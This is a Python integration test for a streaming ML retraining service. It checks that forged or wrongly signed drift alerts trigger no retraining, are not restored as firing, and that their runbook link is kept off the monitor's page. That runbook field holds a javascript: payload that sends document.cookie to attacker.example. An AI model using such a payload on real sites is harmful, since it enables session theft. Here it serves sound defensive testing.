"""Forged firing alerts written on ``alerts`` by a client that may write there: a retrainer
and a restarted monitor, which trust only the alert key, act on none of them.

Deterministic: fixed keys (tests.signing_keys), hand-made alerts, a fixed champion
seed; waits end on the log lines and health each check needs. Whether a canary is
rolled back or a round started is checked on the pure retrainer in
tests/unit/retrainer/test_alert_trust.py; here, that the running retrainer refuses them.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import msgspec

from contracts.records import Alert
from contracts.settings import Settings
from contracts.topics import Topics
from tests.integration.processes import http_get, streamml_child
from tests.integration.scoring_fixtures import publish_champion, signed, trained_bundle
from tests.integration.test_monitor_support import monitor_process
from tests.integration.test_retrainer_support import (
    registry,
    retrain_env,
    signed_settings,
    wait_for_log,
)
from tests.integration.test_scoring import metric
from tests.security.test_signed_registry import send_raw
from tests.signing_keys import OTHER_SIGNER, SIGNER

RUNBOOK = "javascript:fetch('https://attacker.example/'+document.cookie)"


def forged(fingerprint: str) -> Alert:
    """A critical firing drift alert about the champion, owned by a rule the monitor has."""
    now = datetime.now(UTC)
    return Alert(fingerprint=fingerprint, kind="feature-drift", severity="critical",
                 status="firing", model="conversion", version=1, metric="psi", value=9.0,
                 threshold=0.2, window="1000 events",
                 details={"rule": msgspec.Raw(b'{"name": "feature-drift"}')},
                 started_at=now, runbook=RUNBOOK)


def test_forged_alerts_start_no_retraining_and_are_not_restored_as_firing(
    kafka_settings: Settings, tmp_path: Path
) -> None:
    settings = signed_settings(kafka_settings)
    publish_champion(settings, signed(trained_bundle(1, seed=1)))
    topic = Topics(settings.topic_prefix).alerts
    records = [(b"f-unsigned", forged("f-unsigned")),
               (b"f-other", OTHER_SIGNER.sign(forged("f-other"))),
               (b"f-model-key", SIGNER.sign(forged("f-model-key")))]
    send_raw(settings, [(key, msgspec.json.encode(a)) for key, a in records], topic=topic)

    # A drift alert it took would open an episode at once, labels or not.
    with streamml_child(["retrain"], retrain_env(settings),
                        tmp_path / "retrain.log") as retrainer:
        wait_for_log(retrainer, "retrainer ready")
        wait_for_log(retrainer, "alert ignored reason=unknown-key")
        retrainer_log = retrainer.output()
    with monitor_process(settings, tmp_path / "monitor.log") as (monitor, port):
        health = json.loads(http_get(f"http://127.0.0.1:{port}/health")[1])
        _, page = http_get(f"http://127.0.0.1:{port}/")
        refused = {r: metric(port, f'streamml_monitor_alert_refusals_total{{reason="{r}"}}')
                   for r in ("unsigned", "unknown-key")}
        monitor_log = monitor.output()

    print(f"\n[forged alerts] written={len(records)} retrainer-refused="
          f"{retrainer_log.count('alert ignored')} monitor-refused={refused} "
          f"firing-after-restart={health['firing']}")
    assert "alert ignored reason=unsigned" in retrainer_log
    assert "trigger alert" not in retrainer_log and "opens a drift episode" not in retrainer_log
    assert sorted(registry(settings).state.versions) == [1], "nothing was trained"
    assert health["firing"] == 0
    assert refused == {"unsigned": 1.0, "unknown-key": 2.0}
    assert "firing_restored=0" in monitor_log
    assert b"javascript:" not in page and b"attacker.example" not in page
